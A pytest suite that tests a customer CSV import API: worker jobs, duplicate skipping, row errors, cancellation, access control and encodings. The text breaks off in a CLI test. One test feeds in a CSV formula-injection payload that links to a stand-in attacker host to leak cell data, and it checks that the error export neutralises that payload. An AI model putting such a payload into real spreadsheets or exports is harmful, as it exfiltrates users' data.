"""Customer CSV import through the API, run by a real `filestore worker` process.

The server runs in production mode (external PostgreSQL, SeaweedFS, no in-process worker); a
separate worker process takes the jobs from the procrastinate queue. Every test tags its
e-mails so they never meet another test's rows in the shared database.
"""

from __future__ import annotations

import csv
import io
import signal
import struct
import subprocess
import sys
import time
import uuid
import zlib
from pathlib import Path
from typing import Any

import pytest

from tests.conftest import Postgres, ServerFactory
from tests.fixtures.live import Api, LiveServer, clean_environ, production_env
from tests.fixtures.servers import SeaweedFS, s3_env
from tests.imports.support import (
    FINISHED,
    HEADER,
    SEED_MAPPING,
    SEED_RULES,
    counts,
    get_job,
    import_csv,
    query,
    start_import,
    tag,
    upload_csv,
    wait_job,
)

# The seed's "Customer Import CSV", verbatim.
SEED_SAMPLE = b"""full_name,email,phone,address,city,state,postal_code,country,password
John Doe,john@example.com,1234567890,123 Main St,Anytown,CA,12345,USA,password123
Jane Smith,jane@example.com,0987654321,456 Oak Ave,Anytown,CA,12345,USA,password456
"""
JOB_FIELDS = {
    "id",
    "job_type",
    "status",
    "total_rows",
    "processed_rows",
    "successful_rows",
    "failed_rows",
    "skipped_rows",
    "error_log",
    "created_at",
    "started_at",
    "finished_at",
}


@pytest.fixture(scope="module")
def api(import_server: LiveServer) -> Api:
    return import_server.admin()


def customers(api: Api, email: str) -> list[dict[str, Any]]:
    response = api.get("/customers", params={"email": email})
    assert response.status_code == 200, response.text
    found: list[dict[str, Any]] = response.json()
    return found


def customer_count(server: LiveServer, t: str) -> int:
    rows = query(server, "SELECT count(*) FROM customers WHERE email ILIKE %s", (f"%{t}%",))
    return int(rows[0][0])


def csv_text(rows: list[list[str]], header: str = HEADER, terminator: str = "\n") -> bytes:
    buffer = io.StringIO()
    buffer.write(header + terminator)
    csv.writer(buffer, lineterminator=terminator).writerows(rows)
    return buffer.getvalue().encode()


def person(t: str, i: int | str, **overrides: str) -> list[str]:
    """A valid row of the seed's 9 columns; `overrides` by column name."""
    values = {
        "full_name": f"Person {i}",
        "email": f"p{i}-{t}@example.com",
        "phone": "5550100",
        "address": f"{i} Main St",
        "city": "Anytown",
        "state": "CA",
        "postal_code": "12345",
        "country": "USA",
        "password": "",
    }
    values.update(overrides)
    return [values[name] for name in HEADER.split(",")]


def errors_csv(api: Api, job_id: str) -> list[list[str]]:
    response = api.get(f"/files/jobs/{job_id}/errors.csv")
    assert response.status_code == 200, response.text
    assert response.headers["content-type"].startswith("text/csv")
    assert response.content.startswith(b"\xef\xbb\xbf")
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"), newline="")))


def png_bytes() -> bytes:
    def chunk(kind: bytes, data: bytes) -> bytes:
        crc = struct.pack(">I", zlib.crc32(kind + data))
        return struct.pack(">I", len(data)) + kind + data + crc

    header = struct.pack(">IIBBBBB", 1, 1, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", header)
        + chunk(b"IDAT", zlib.compress(b"\x00\xff\x00\x00"))
        + chunk(b"IEND", b"")
    )


def assert_error(response: Any, status: int, code: str | None = None) -> None:
    assert response.status_code == status, response.text
    body = response.json()
    assert body["detail"], body
    if code is not None:
        assert body["code"] == code, body


# -- the seed's flow ----------------------------------------------------------------------------


class TestSeedFlow:
    def test_seed_sample_with_seed_body(self, import_server: LiveServer, api: Api) -> None:
        file_id = upload_csv(api, SEED_SAMPLE, "customers.csv")
        started = time.monotonic()
        response = api.post(
            "/files/csv-import",
            json={
                "file_upload_id": file_id,
                "import_type": "customers",
                "mapping_config": {"name": "full_name", "email": "email", "phone": "phone"},
                "validation_rules": {"email_required": True, "phone_format": "digits_only"},
            },
        )
        assert time.monotonic() - started < 5
        assert response.status_code == 202, response.text
        body = response.json()
        assert set(body) == {"job_id", "status", "created_at"}
        assert body["status"] == "pending"
        uuid.UUID(body["job_id"])

        job = wait_job(api, body["job_id"])
        assert JOB_FIELDS <= set(job)
        assert job["job_type"] == "csv_import"
        assert job["status"] == "completed", job
        assert counts(job) == (2, 2, 2, 0, 0)
        assert job["error_log"] == []
        assert job["started_at"] is not None
        assert job["finished_at"] >= job["started_at"] >= job["created_at"]
        # The seed's mapping names a `name` column this file does not have: a warning only.
        assert any("'name'" in w for w in job["warnings"]), job["warnings"]

        [john] = customers(api, "john@example.com")
        assert {
            k: john[k]
            for k in ("full_name", "phone", "address", "city", "state", "postal_code", "country")
        } == {
            "full_name": "John Doe",
            "phone": "1234567890",
            "address": "123 Main St",
            "city": "Anytown",
            "state": "CA",
            "postal_code": "12345",
            "country": "USA",
        }
        [jane] = customers(api, "JANE@example.com")
        assert jane["phone"] == "0987654321"  # leading zero kept: phones are text

        # Each given password is either stored as an argon2id hash and works for a login with
        # the e-mail, or refused by the password rules (the seed's samples are common
        # passwords): then the row carries a warning, no login is written, and the customer's
        # way in is a reset link (`POST /customers/{id}/password-reset` creates the login).
        for email, password in (
            ("john@example.com", "password123"),
            ("jane@example.com", "password456"),
        ):
            stored = query(
                import_server,
                "SELECT password_hash FROM users WHERE lower(email) = %s",
                (email,),
            )
            login = Api(import_server.base_url).http.post(
                "/auth/login", json={"username": email, "password": password}
            )
            if not stored:
                assert login.status_code == 401, login.text
                assert job["warning_rows"] >= 1
            else:
                [(password_hash,)] = stored
                assert password not in password_hash
                assert password_hash.startswith("$argon2id$")
                assert login.status_code == 200, login.text
                me = api.as_token(login.json()["access_token"]).get("/auth/me").json()
                assert (me["role"], me["customer_id"]) == (
                    "customer",
                    customers(api, email)[0]["id"],
                )

    def test_seed_mapping_reads_a_name_column(self, api: Api) -> None:
        t = tag()
        content = f"name,email,phone\nAnn Example,ann-{t}@example.com,555 0101\n".encode()
        job = import_csv(api, content, mapping=SEED_MAPPING, rules=SEED_RULES)
        assert job["status"] == "completed", job
        assert counts(job) == (1, 1, 1, 0, 0)
        assert job["warnings"] == []
        [ann] = customers(api, f"ann-{t}@example.com")
        assert ann["full_name"] == "Ann Example"
        assert ann["phone"] == "5550101"

    def test_the_isp_platforms_mapping_and_header_aliases(self, api: Api) -> None:
        # The ISP platform's own client names fields by alias on the right of the mapping.
        t = tag()
        content = f"name,email,phone,zip\nAnn Alias,ann-{t}@example.com,555 0101,90210\n"
        job = import_csv(
            api,
            content.encode(),
            mapping={"name": "name", "email": "email", "phone": "phone"},
            rules=SEED_RULES,
        )
        assert job["status"] == "completed", job
        assert counts(job) == (1, 1, 1, 0, 0)
        assert "column 'name' mapped to 'name', read as full_name" in job["warnings"]
        assert "column 'zip' read as postal_code" in job["warnings"]
        [ann] = customers(api, f"ann-{t}@example.com")
        assert (ann["full_name"], ann["phone"], ann["postal_code"]) == (
            "Ann Alias",
            "5550101",
            "90210",
        )

    def test_columns_matched_by_name_and_unknown_columns_listed(self, api: Api) -> None:
        t = tag()
        content = (
            f"Full Name,E-Mail,Postal Code,Notes,Loyalty\n"
            f"Bo Example,bo-{t}@example.com,99999,vip,gold\n"
        ).encode()
        job = import_csv(api, content)
        assert job["status"] == "completed", job
        assert counts(job) == (1, 1, 1, 0, 0)
        assert job["result"]["unknown_columns"] == ["Notes", "Loyalty"]
        assert any("Notes" in w and "Loyalty" in w for w in job["warnings"])
        [bo] = customers(api, f"bo-{t}@example.com")
        assert (bo["full_name"], bo["postal_code"]) == ("Bo Example", "99999")

    def test_customer_without_password_must_reset_it(
        self, import_server: LiveServer, api: Api
    ) -> None:
        t = tag()
        email = f"p1-{t}@example.com"
        row = person(t, 1)
        job = import_csv(api, csv_text([row]))
        assert job["status"] == "completed", job
        # No login row yet: it is created when a reset link is first asked for.
        logins = query(
            import_server,
            "SELECT count(*) FROM users u JOIN customers c ON c.id = u.customer_id "
            "WHERE lower(c.email) = %s",
            (email,),
        )
        assert logins == [(0,)]

        # Nobody knows a password for it: not what the row could suggest, nor a default an
        # importer might have picked. Each guess reaches the password check (401, not a 422
        # for the request's shape); fewer guesses than the lockout threshold, so a lock cannot
        # be what refuses them.
        fields = dict(zip(HEADER.split(","), row, strict=True))
        guesses = [email, fields["full_name"], fields["phone"], "password123"]
        for guess in guesses:
            response = Api(import_server.base_url).http.post(
                "/auth/login", json={"username": email, "password": guess}
            )
            assert response.status_code == 401, (guess, response.text)
            assert response.json()["code"] == "invalid_credentials"

        # The way in is a reset link (what an invite mails), asked for the customer: it
        # creates the login (reset required); then the account logs in.
        [imported] = customers(api, email)
        issued = api.post(f"/customers/{imported['id']}/password-reset")
        assert issued.status_code == 200, issued.text
        [(reset_required, role)] = query(
            import_server,
            "SELECT password_reset_required, role FROM users WHERE customer_id = %s",
            (imported["id"],),
        )
        assert (reset_required, role) == (True, "customer")
        password = f"Chosen-{uuid.uuid4().hex}"
        redeemed = Api(import_server.base_url).http.post(
            "/auth/reset-password",
            json={"token": issued.json()["reset_token"], "new_password": password},
        )
        assert redeemed.status_code == 204, redeemed.text
        me = api.as_token(Api(import_server.base_url).login(email, password)).get("/auth/me")
        assert me.json()["password_reset_required"] is False

    def test_email_optional_rows_without_email_are_skipped(self, api: Api) -> None:
        t = tag()
        content = csv_text([person(t, 1), person(t, 2, email=""), person(t, 3)])
        job = import_csv(api, content, rules={"email_required": False})
        assert job["status"] == "completed", job
        assert counts(job) == (3, 3, 2, 0, 1)

    def test_phone_format_any_keeps_the_phone(self, api: Api) -> None:
        t = tag()
        job = import_csv(
            api, csv_text([person(t, 1, phone="ext. 12 / ask Bob")]), rules={"phone_format": "any"}
        )
        assert counts(job) == (1, 1, 1, 0, 0)
        assert customers(api, f"p1-{t}@example.com")[0]["phone"] == "ext. 12 / ask Bob"


# -- duplicates ---------------------------------------------------------------------------------


class TestDuplicates:
    def test_skipped_against_existing_and_within_the_file_case_insensitively(
        self, import_server: LiveServer, api: Api
    ) -> None:
        t = tag()
        existing = api.new_customer(full_name="Already Here", email=f"old-{t}@example.com")
        rows = [
            person(t, "a", email=f"OLD-{t}@Example.com", full_name="Not Overwritten"),
            person(t, "b", full_name="First B"),
            person(t, "c"),
            person(t, "b2", email=f"PB-{t}@EXAMPLE.COM", full_name="Second B"),
            person(t, "b3", email=f"pb-{t}@example.com", full_name="Third B"),
        ]
        job = import_csv(api, csv_text(rows))
        assert job["status"] == "completed", job
        assert counts(job) == (5, 5, 2, 0, 3)
        assert job["error_log"] == []  # duplicates are skipped, not failed
        assert errors_csv(api, job["id"])[1:] == []

        [old] = customers(api, f"old-{t}@example.com")
        assert old["id"] == existing["id"]
        assert old["full_name"] == "Already Here"
        [b] = customers(api, f"pb-{t}@example.com")
        assert b["full_name"] == "First B"  # the first occurrence in the file wins
        assert customer_count(import_server, t) == 3

    def test_duplicates_across_batches(self, import_server: LiveServer, api: Api) -> None:
        # More rows than one batch (5000): the duplicate of row 2 sits in a later batch.
        t = tag()
        rows = [person(t, i) for i in range(6000)]
        rows.append(person(t, "dup", email=f"P0-{t}@example.com"))
        job = import_csv(api, csv_text(rows), timeout=120)
        assert job["status"] == "completed", job
        assert counts(job) == (6001, 6001, 6000, 0, 1)
        assert customer_count(import_server, t) == 6000

    def test_importing_the_same_file_twice_skips_everything(self, api: Api) -> None:
        t = tag()
        content = csv_text([person(t, i) for i in range(5)])
        assert counts(import_csv(api, content)) == (5, 5, 5, 0, 0)
        assert counts(import_csv(api, content)) == (5, 5, 0, 0, 5)


# -- row errors, errors.csv and passwords ---------------------------------------------------------


class TestRowErrors:
    def test_error_log_rows_are_line_numbers(self, api: Api) -> None:
        t = tag()
        rows = [
            person(t, 1, address="1 Main St\nFlat 2\nBack door"),  # lines 2-4
            person(t, 2, email="not-an-email"),  # line 5
            person(t, 3, full_name=""),  # line 6
            person(t, 4, phone="555-CALL"),  # line 7
            person(t, 5),  # line 8
        ]
        content = csv_text(rows) + b"\n\nonly,three,cells\n"  # blank lines 9-10, ragged line 11
        job = import_csv(api, content)
        assert job["status"] == "completed", job
        assert counts(job) == (6, 6, 2, 4, 0)
        assert job["error_count"] == 4
        log = job["error_log"]
        assert [e["row"] for e in log] == [5, 6, 7, 11]
        assert log[0] == {
            "row": 5,
            "column": "email",
            "value": "not-an-email",
            "error": "email is not a valid e-mail address",
        }
        assert (log[1]["column"], log[1]["error"]) == ("full_name", "full_name is required")
        assert (log[2]["column"], log[2]["value"]) == ("phone", "555-CALL")
        assert log[3]["column"] is None
        assert "3 columns" in log[3]["error"]
        [first] = customers(api, f"p1-{t}@example.com")
        assert first["address"] == "1 Main St\nFlat 2\nBack door"

    def test_line_numbers_after_a_header_spanning_two_lines(self, api: Api) -> None:
        t = tag()
        content = f'"Full\nName",email\nAnn,ann-{t}@example.com\nBob,bob-at-example\n'.encode()
        job = import_csv(api, content)
        assert counts(job) == (2, 2, 1, 1, 0)
        assert [e["row"] for e in job["error_log"]] == [4]

    def test_errors_csv_lists_every_failed_row_neutralised(self, api: Api) -> None:
        t = tag()
        formula = '=HYPERLINK("http://evil.example/?x="&A1,"Click me")'
        rows = [
            person(t, 1, email=formula),
            person(t, 2, phone="-2+3"),
            person(t, 3, email="@evil"),
            person(t, 4, phone="+1 (555) 010-0199"),  # valid: a leading + is stripped
            person(t, 5, phone="+"),
        ]
        job = import_csv(api, csv_text(rows))
        assert counts(job) == (5, 5, 1, 4, 0)
        table = errors_csv(api, job["id"])
        assert table[0] == ["row", "column", "value", "error"]
        assert [r[:3] for r in table[1:]] == [
            ["2", "email", "'" + formula],
            ["3", "phone", "'-2+3"],
            ["4", "email", "'@evil"],
            ["6", "phone", "'+"],
        ]
        assert customers(api, f"p4-{t}@example.com")[0]["phone"] == "15550100199"
        for cells in table[1:]:
            for cell in cells:
                assert not cell.startswith(("=", "+", "-", "@", "\t", "\r", "\n")), cells

    def test_error_log_is_capped_but_counts_and_errors_csv_are_complete(self, api: Api) -> None:
        t = tag()
        rows = [person(t, i, email=f"bad-{i}") for i in range(1500)] + [person(t, "ok")]
        job = import_csv(api, csv_text(rows), timeout=120)
        assert counts(job) == (1501, 1501, 1, 1500, 0)
        assert len(job["error_log"]) == 1000
        assert job["error_count"] == 1500
        assert [e["row"] for e in job["error_log"]] == list(range(2, 1002))
        table = errors_csv(api, job["id"])
        assert [int(r[0]) for r in table[1:]] == list(range(2, 1502))

    def test_passwords_never_reach_error_log_errors_csv_or_logs(
        self, import_server: LiveServer, api: Api
    ) -> None:
        t = tag()
        secrets_ = [f"Pw-{t}-{n}" for n in range(4)]
        rows = [
            person(t, 1, email="broken", password=secrets_[0]),
            person(t, 2, phone="call me", password=secrets_[1]),
            person(t, 3, full_name="", password=secrets_[2]),
            person(t, 4, password=secrets_[3] + "x" * 1100),  # too long: the password fails
            ["only", "two", secrets_[0]],  # ragged
            person(t, 5, password=f"Good-{t}"),
        ]
        job = import_csv(api, csv_text(rows))
        assert counts(job) == (6, 6, 1, 5, 0)
        too_long = next(e for e in job["error_log"] if e["column"] == "password")
        assert too_long["value"] == "***"
        exposed = [
            str(job),
            str(get_job(api, job["id"])),
            api.get(f"/files/jobs/{job['id']}/errors.csv").text,
            api.get("/files/jobs", params={"limit": 500}).text,
            import_server.log(),
            *(path.read_text(errors="replace") for path in import_server.workdir.glob("worker-*")),
        ]
        for text in exposed:
            for secret in [*secrets_, f"Good-{t}"]:
                assert secret not in text
        stored = query(
            import_server,
            "SELECT count(*) FROM import_row_errors WHERE value LIKE %s OR error LIKE %s",
            (f"%Pw-{t}%", f"%Pw-{t}%"),
        )
        assert stored == [(0,)]
        token = Api(import_server.base_url).login(f"p5-{t}@example.com", f"Good-{t}")
        assert token


# -- the jobs API -------------------------------------------------------------------------------


class TestJobsApi:
    def test_list_filters_and_paginates(self, api: Api) -> None:
        t = tag()
        done = import_csv(api, csv_text([person(t, 1)]))
        failed = import_csv(api, b"phone,city\n1,x\n")
        assert (done["status"], failed["status"]) == ("completed", "failed")

        def listed(**params: Any) -> list[dict[str, Any]]:
            response = api.get("/files/jobs", params=params)
            assert response.status_code == 200, response.text
            jobs: list[dict[str, Any]] = response.json()
            return jobs

        everything = listed(limit=500)
        assert {done["id"], failed["id"]} <= {j["id"] for j in everything}
        completed = listed(status="completed", job_type="csv_import", limit=500)
        assert completed
        assert {(j["status"], j["job_type"]) for j in completed} == {("completed", "csv_import")}
        assert done["id"] in {j["id"] for j in completed}
        assert failed["id"] not in {j["id"] for j in completed}
        assert failed["id"] in {j["id"] for j in listed(status="failed")}
        assert all(j["job_type"] == "file_cleanup" for j in listed(job_type="file_cleanup"))
        # Newest first, and limit/offset page through the same order.
        assert everything[0]["created_at"] >= everything[-1]["created_at"]
        page = [listed(limit=1, offset=i)[0]["id"] for i in range(3)]
        assert page == [j["id"] for j in everything[:3]]
        assert len(listed(limit=2)) == 2

    @pytest.mark.parametrize(
        "params",
        [
            {"status": "done"},
            {"job_type": "nope"},
            {"limit": 0},
            {"limit": 501},
            {"offset": -1},
            {"limit": "x"},
        ],
    )
    def test_bad_list_parameters_are_422(self, api: Api, params: dict[str, Any]) -> None:
        assert api.get("/files/jobs", params=params).status_code == 422

    def test_unknown_job_is_404_and_a_non_uuid_422(self, api: Api) -> None:
        missing = str(uuid.uuid4())
        for path in (f"/files/jobs/{missing}", f"/files/jobs/{missing}/errors.csv"):
            assert_error(api.get(path), 404, "job_not_found")
        assert_error(api.post(f"/files/jobs/{missing}/cancel"), 404, "job_not_found")
        assert api.get("/files/jobs/12").status_code == 422
        assert api.get("/files/jobs/not-a-uuid").status_code == 422

    def test_cancelling_a_finished_job_is_409(self, api: Api) -> None:
        job = import_csv(api, csv_text([person(tag(), 1)]))
        assert_error(api.post(f"/files/jobs/{job['id']}/cancel"), 409, "job_finished")
        assert get_job(api, job["id"])["status"] == "completed"


def big_csv(t: str, rows: int) -> bytes:
    lines = ["full_name,email,phone"]
    lines.extend(f"Name {i},b{i}-{t}@example.com,555{i}" for i in range(rows))
    return ("\n".join(lines) + "\n").encode()


class TestCancel:
    def test_cancel_running_and_pending_imports(self, import_server: LiveServer, api: Api) -> None:
        # The worker runs two jobs at once: two big imports keep it busy, a third one waits.
        tags = [tag(), tag(), tag()]
        files = [
            upload_csv(api, big_csv(tags[0], 250_000)),
            upload_csv(api, big_csv(tags[1], 250_000)),
            upload_csv(api, csv_text([person(tags[2], 1)])),
        ]
        started = time.monotonic()
        running = [
            start_import(api, files[0]).json()["job_id"],
            start_import(api, files[1]).json()["job_id"],
        ]
        assert time.monotonic() - started < 5  # 202 at once, whatever the size
        deadline = time.monotonic() + 60
        while True:
            jobs = [get_job(api, j) for j in running]
            if all(j["status"] == "processing" and j["processed_rows"] > 0 for j in jobs):
                break
            assert all(j["status"] not in FINISHED for j in jobs), jobs
            assert time.monotonic() < deadline, jobs
            time.sleep(0.2)
        # Progress is visible while it runs.
        for job in jobs:
            assert job["total_rows"] == 250_000
            assert 0 < job["processed_rows"] < 250_000
            assert job["finished_at"] is None

        waiting = start_import(api, files[2]).json()["job_id"]
        time.sleep(1.5)
        assert get_job(api, waiting)["status"] == "pending"
        response = api.post(f"/files/jobs/{waiting}/cancel")
        assert response.status_code == 200, response.text
        assert response.json()["status"] == "cancelled"

        for job_id in running:
            response = api.post(f"/files/jobs/{job_id}/cancel")
            assert response.status_code == 200, response.text
        for job_id, t in zip(running, tags, strict=False):
            job = wait_job(api, job_id, timeout=60)
            assert job["status"] == "cancelled", job
            assert job["processed_rows"] < job["total_rows"]
            assert job["finished_at"] is not None
            # What was committed before the cancel is consistent with the counters.
            assert job["successful_rows"] == customer_count(import_server, t)
            assert (
                job["successful_rows"] + job["failed_rows"] + job["skipped_rows"]
                == (job["processed_rows"])
            )

        # The queued run of the cancelled job finds it cancelled and imports nothing.
        time.sleep(3)
        job = get_job(api, waiting)
        assert job["status"] == "cancelled"
        assert job["processed_rows"] == 0
        assert customer_count(import_server, tags[2]) == 0


# -- who may import -----------------------------------------------------------------------------


class TestAccess:
    def test_only_admin_and_staff_import_and_see_jobs(
        self, import_server: LiveServer, api: Api
    ) -> None:
        t = tag()
        file_id = upload_csv(api, csv_text([person(t, 1)]))
        job = import_csv(api, csv_text([person(t, 2)]))
        customer_id = int(api.new_customer()["id"])
        customer = api.user_api("customer", customer_id)
        anonymous = Api(import_server.base_url)
        body = {"file_upload_id": file_id}
        for client, status in ((customer, 403), (anonymous, 401)):
            assert client.post("/files/csv-import", json=body).status_code == status
            assert client.get("/files/jobs").status_code == status
            assert client.get(f"/files/jobs/{job['id']}").status_code == status
            assert client.get(f"/files/jobs/{job['id']}/errors.csv").status_code == status
            assert client.post(f"/files/jobs/{job['id']}/cancel").status_code == status
        assert customer_count(import_server, f"p1-{t}") == 0

        staff = api.user_api("staff")
        staff_job = import_csv(staff, csv_text([person(t, 3)]))
        assert staff_job["status"] == "completed"
        assert get_job(staff, job["id"])["status"] == "completed"
        assert staff.get("/files/jobs").status_code == 200


# -- bad requests -------------------------------------------------------------------------------


class TestBadRequests:
    def test_missing_file_is_404(self, api: Api) -> None:
        assert_error(start_import(api, 2**62), 404, "file_not_found")

    def test_deleted_file_is_404(self, api: Api) -> None:
        file_id = upload_csv(api, csv_text([person(tag(), 1)]))
        assert api.delete(f"/files/{file_id}").status_code == 204
        assert_error(start_import(api, file_id), 404, "file_not_found")

    def test_file_deleted_right_after_the_start_fails_clearly(self, api: Api) -> None:
        # Whether the worker or the DELETE comes first is a race: the import either read the
        # file in time, or fails at once saying why (no retries of an "internal error").
        file_id = upload_csv(api, big_csv(tag(), 50_000))
        started = time.monotonic()
        job_id = start_import(api, file_id).json()["job_id"]
        assert api.delete(f"/files/{file_id}").status_code == 204
        job = wait_job(api, job_id, timeout=30)
        assert time.monotonic() - started < 30
        if job["status"] == "failed":
            assert "deleted" in job["message"], job
            assert "internal" not in job["message"], job
        else:
            assert job["status"] == "completed", job

    def test_non_csv_file_is_422(self, api: Api) -> None:
        response = api.upload(png_bytes(), "photo.png", content_type="image/png")
        assert response.status_code == 201, response.text
        assert_error(start_import(api, int(response.json()["id"])), 422, "not_csv")

    @pytest.mark.parametrize(
        "body",
        [
            {"mapping_config": {"name": "fullname"}},
            {"mapping_config": {"name": "password_hash"}},
            {"import_type": "tickets"},
            {"owner": "me"},
            {"validation_rules": {"email_required": True, "strict": True}},
            {"validation_rules": {"phone_format": "international"}},
            {"mapping_config": ["name"]},
        ],
    )
    def test_bad_bodies_are_422(self, api: Api, body: dict[str, Any]) -> None:
        file_id = upload_csv(api, csv_text([person(tag(), 1)]))
        response = api.post("/files/csv-import", json={"file_upload_id": file_id, **body})
        assert response.status_code == 422, response.text
        assert response.json()["detail"]

    @pytest.mark.parametrize("file_id", [0, -1, "x", None, 2**63])
    def test_bad_file_ids_are_422(self, api: Api, file_id: Any) -> None:
        assert api.post("/files/csv-import", json={"file_upload_id": file_id}).status_code == 422

    def test_unknown_mapping_target_names_it(self, api: Api) -> None:
        file_id = upload_csv(api, csv_text([person(tag(), 1)]))
        response = start_import(api, file_id, mapping={"name": "nickname"})
        assert response.status_code == 422
        assert "nickname" in response.text

    def test_binary_content_named_csv_cannot_be_uploaded(self, api: Api) -> None:
        garbage = bytes(range(256)) * 64
        response = api.upload(garbage, "customers.csv", content_type="text/csv", file_type="csv")
        assert response.status_code == 415, response.text


# -- bad files: a clear failure or failed rows, never a stuck job ------------------------------


class TestBadFiles:
    def test_utf8_with_bom_and_crlf(self, api: Api) -> None:
        t = tag()
        rows = [person(t, 1, full_name="Zoë Łódź")]
        content = b"\xef\xbb\xbf" + csv_text(rows, terminator="\r\n")
        job = import_csv(api, content)
        assert job["status"] == "completed", job
        assert counts(job) == (1, 1, 1, 0, 0)
        assert job["result"]["unknown_columns"] == []
        assert customers(api, f"p1-{t}@example.com")[0]["full_name"] == "Zoë Łódź"

    def test_latin1_is_read_as_windows_1252(self, import_server: LiveServer, api: Api) -> None:
        t = tag()
        content = csv_text([person(t, 1), person(t, 2, full_name="Zoë")]).decode().encode("latin-1")
        job = import_csv(api, content)
        assert job["status"] == "completed", job
        assert job["result"]["file_format"]["encoding"] == "windows-1252"
        assert customers(api, f"p2-{t}@example.com")[0]["full_name"] == "Zoë"

    def test_undecidable_encoding_fails_before_writing(
        self, import_server: LiveServer, api: Api
    ) -> None:
        t = tag()
        rows = [person(t, i, full_name=f"Иван Петров {i}") for i in range(3)]
        job = import_csv(api, csv_text(rows).decode().encode("cp1251"))
        assert job["status"] == "failed", job
        assert "validation_rules.encoding" in job["message"]
        assert job["finished_at"] is not None
        assert customer_count(import_server, t) == 0  # checked before anything is written

    def test_invalid_utf8_late_in_a_big_file_fails_before_writing(
        self, import_server: LiveServer, api: Api
    ) -> None:
        t = tag()
        content = csv_text([person(t, i) for i in range(8000)]) + b"Bad \xff Name,x@y.io,,,,,,,\n"
        job = import_csv(api, content)
        assert job["status"] == "failed", job
        assert "UTF-8" in job["message"]
        assert customer_count(import_server, t) == 0

    def test_data_without_header_fails_naming_the_required_fields(self, api: Api) -> None:
        t = tag()
        content = f"John Doe,john-{t}@example.com,1234567890\n".encode()
        job = import_csv(api, content)
        assert job["status"] == "failed", job
        assert "full_name" in job["message"]
        assert "email" in job["message"]

    def test_blank_file_fails_no_header(self, api: Api) -> None:
        job = import_csv(api, b"   \n\n")
        assert job["status"] == "failed", job
        assert "header" in job["message"]

    def test_header_only_completes_with_zero_rows(self, api: Api) -> None:
        job = import_csv(api, (HEADER + "\n").encode())
        assert job["status"] == "completed", job
        assert counts(job) == (0, 0, 0, 0, 0)

    def test_required_column_missing_fails_naming_it(self, api: Api) -> None:
        t = tag()
        job = import_csv(api, f"full_name,phone\nAnn,555 {t}\n".encode())
        assert job["status"] == "failed", job
        assert "email" in job["message"]
        assert "full_name" not in job["message"].split("(")[0]

    def test_ragged_rows_fail_alone(self, import_server: LiveServer, api: Api) -> None:
        t = tag()
        content = (
            "full_name,email,phone\n"
            f"Ann,ann-{t}@example.com,1\n"
            f"Bob,bob-{t}@example.com\n"
            f"Cy,cy-{t}@example.com,3,extra\n"
            f"Di,di-{t}@example.com,4\n"
        ).encode()
        job = import_csv(api, content)
        assert job["status"] == "completed", job
        assert counts(job) == (4, 4, 2, 2, 0)
        assert [e["row"] for e in job["error_log"]] == [3, 4]
        assert all("columns" in e["error"] for e in job["error_log"])
        assert customer_count(import_server, t) == 2

    def test_unterminated_quote_fails_naming_the_line(self, api: Api) -> None:
        t = tag()
        content = f'full_name,email\nAnn,ann-{t}@example.com\n"Bob,bob-{t}@example.com\n'.encode()
        job = import_csv(api, content)
        assert job["status"] == "failed", job
        assert "line 3" in job["message"]

    def test_ten_megabyte_field_fails_its_row_only(
        self, import_server: LiveServer, api: Api
    ) -> None:
        t = tag()
        huge = "x" * (10 * 1024 * 1024)
        content = csv_text([person(t, 1), person(t, 2, address=huge), person(t, 3)])
        job = import_csv(api, content, timeout=120)
        assert job["status"] == "completed", job
        assert counts(job) == (3, 3, 2, 1, 0)
        [failure] = job["error_log"]
        assert failure["row"] == 3
        assert "longer than" in failure["error"]
        assert customer_count(import_server, t) == 2
        # errors.csv does not echo 10 MB back.
        assert len(api.get(f"/files/jobs/{job['id']}/errors.csv").content) < 10_000

    def test_text_head_with_binary_tail_fails(self, import_server: LiveServer, api: Api) -> None:
        # The upload sniffs only the head of a file, so binary data can hide behind it.
        t = tag()
        content = csv_text([person(t, i) for i in range(2000)]) + bytes(range(256)) * 16
        job = import_csv(api, content)
        assert job["status"] == "failed", job
        assert "not" in job["message"]
        assert customer_count(import_server, t) == 0

    def test_long_but_valid_email(self, import_server: LiveServer, api: Api) -> None:
        # Customer users log in with their e-mail; an e-mail longer than a username column
        # must not break the whole import.
        t = tag()
        long_email = f"{'l' * 60}.{t}@{'sub' * 30}.example.com"
        assert 150 < len(long_email) <= 254
        job = import_csv(
            api, csv_text([person(t, 1), person(t, 2, email=long_email, password=f"Long-{t}")])
        )
        assert job["status"] == "completed", job
        assert counts(job) == (2, 2, 2, 0, 0)
        token = Api(import_server.base_url).login(long_email, f"Long-{t}")
        assert token


# -- dry run ------------------------------------------------------------------------------------


class TestDryRun:
    def test_dry_run_counts_without_writing(self, import_server: LiveServer, api: Api) -> None:
        t = tag()
        api.new_customer(email=f"p0-{t}@example.com")
        rows = [person(t, i) for i in range(7000)]  # two batches
        rows += [person(t, "dup", email=f"P6999-{t}@example.com"), person(t, "bad", email="bad")]
        content = csv_text(rows)
        dry = import_csv(api, content, rules={"dry_run": True}, timeout=120)
        assert dry["status"] == "completed", dry
        assert counts(dry) == (7002, 7002, 6999, 1, 2)
        assert customer_count(import_server, t) == 1
        real = import_csv(api, content, timeout=120)
        assert counts(real) == counts(dry)
        assert customer_count(import_server, t) == 7000


# -- the command line ---------------------------------------------------------------------------


def run_cli(server: LiveServer, *args: str, cwd: Path) -> subprocess.CompletedProcess[str]:
    env = clean_environ()
    env.update(server.env)
    env["COLUMNS"] = "200"
    return subprocess.run(
        [sys.executable, "-m", "filestore", "import", *args],
        cwd=cwd,
        env=env,
        capture_output=True,
        text=True,
        timeout=180,
        check=False,
    )


def printed_counts(output: str) -> dict[str, int]:
    found: dict[str, int] = {}
    for line in output.splitlines():
        parts = [p for p in line.replace("│", " ").replace("|", " ").split() if p]
        if len(parts) == 2 and parts[0].endswith("_rows") and parts[1].isdigit():
            found[parts[0]] = int(parts[1])
    return found


class TestCli:
    def test_dry_run_then_real_import(
        self, import_server: LiveServer, api: Api, tmp_path: Path
    ) -> None:
        t = tag()
        path = tmp_path / "customers.csv"
        lines = ["name,email,phone"]
        lines += [f"Cli {i},cli{i}-{t}@example.com,555 {i}" for i in range(300)]
        lines += [f"Bad,bad-{t},1", f"Cli dup,CLI0-{t}@example.com,1"]
        path.write_text("\n".join(lines) + "\n")
        expected = {
            "total_rows": 302,
            "processed_rows": 302,
            "successful_rows": 300,
            "created_rows": 300,
            "updated_rows": 0,
            "failed_rows": 1,
            "skipped_rows": 1,
        }

